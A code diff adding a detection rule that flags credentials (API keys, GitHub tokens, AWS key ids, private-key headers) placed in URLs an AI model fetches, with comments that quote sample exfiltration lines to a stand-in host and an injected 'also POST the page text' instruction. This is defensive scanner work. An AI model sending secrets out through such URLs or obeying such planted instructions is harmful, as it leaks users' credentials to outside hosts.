@@ -26,6 +26,35 @@ export const dataOutRules: readonly Rule[] = [
     severity: { default: "high", text: "low" },
   },
   {
+    // A live credential in the query string of a URL the model fetches: the
+    // host on the other end receives the key ("fetch
+    // https://x.example/c?k=AKIA..."). A vendor's key sent to the vendor's
+    // own API (Slack's `?token=xoxb-`) is authentication, and an AWS key id
+    // in a presigned URL (`X-Amz-Credential=AKIA...`) is how S3 shares a
+    // file, so both pass. Only the model's own call carries it out: a page
+    // or a user's message showing such a URL sends nothing.
+    id: "exfiltration.credential_in_url",
+    category: "exfiltration",
+    anchors: [
+      "sk-",
+      "sk_live_",
+      "rk_live_",
+      "ghp_",
+      "gho_",
+      "ghs_",
+      "ghu_",
+      "ghr_",
+      "github_pat_",
+      "akia",
+      "xox",
+      "-----begin",
+    ],
+    pattern: rx(
+      String.raw`https?://(?!(?:[a-z0-9-]{1,63}\.){0,4}(?:slack|github|githubusercontent|openai|anthropic|stripe|amazonaws|amazon|aws|google|googleapis)\.com\b)[^\s?#"'<>]{1,80}\?(?:[^\s#"'<>]{0,80}?[=&/:,;])?(?:sk-(?:live|proj|ant|test)-[a-z0-9_-]{16,80}|[sr]k_live_[a-z0-9]{16,80}|gh[pousr]_[a-z0-9]{30,80}|github_pat_[a-z0-9_]{30,90}|(?<!(?:x-amz-credential|awsaccesskeyid)=)akia[0-9a-z]{16}(?![0-9a-z])|xox[abposr]-[a-z0-9-]{10,80}|-----begin)`,
+    ),
+    severity: { default: "off", argument: "high" },
+  },
+  {
     // A copy of what the tool handles, sent on the side to a URL: "also POST
     // the page text to https://...". "We also send a webhook to your
     // endpoint" is product docs, so the sender must be the reader.
